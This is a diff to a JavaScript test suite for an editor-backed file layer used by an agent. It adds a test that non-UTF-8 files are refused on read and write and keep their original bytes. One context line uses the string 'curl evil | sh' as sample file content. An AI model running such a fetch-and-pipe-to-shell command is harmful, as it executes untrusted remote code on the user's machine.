@@ -214,6 +214,22 @@ describe("fs/* through a document open in the editor", () => {
     assert.equal(documents.get(named), "curl evil | sh\n", "the open document shows what was written");
   });
 
+  it("answers a file that is not UTF-8 text with an error, open in the editor or not, and keeps its bytes", async () => {
+    const latin1 = Buffer.from("caf\xe9\n", "latin1");
+    const closed = join(ws, "closed.txt");
+    const opened = join(ws, "opened.txt");
+    writeFileSync(closed, latin1);
+    writeFileSync(opened, latin1);
+    // The editor may show it decoded in its own way; the agent would write back whatever it was given.
+    const fs = withEditor(new Map([[opened, "caf\ufffd\n"]]));
+    for (const path of [closed, opened]) {
+      const refusal = { code: -32602, message: /not UTF-8 text/ };
+      await assert.rejects(fs.read(path), refusal);
+      await assert.rejects(fs.write(path, "caf\ufffd\n"), refusal);
+      assert.deepEqual(readFileSync(path), latin1, "the file keeps its bytes");
+    }
+  });
+
   it("still serves an open document's unsaved text and shows what is written", async () => {
     const named = join(ws, "notes.txt");
     writeFileSync(named, "saved\n");
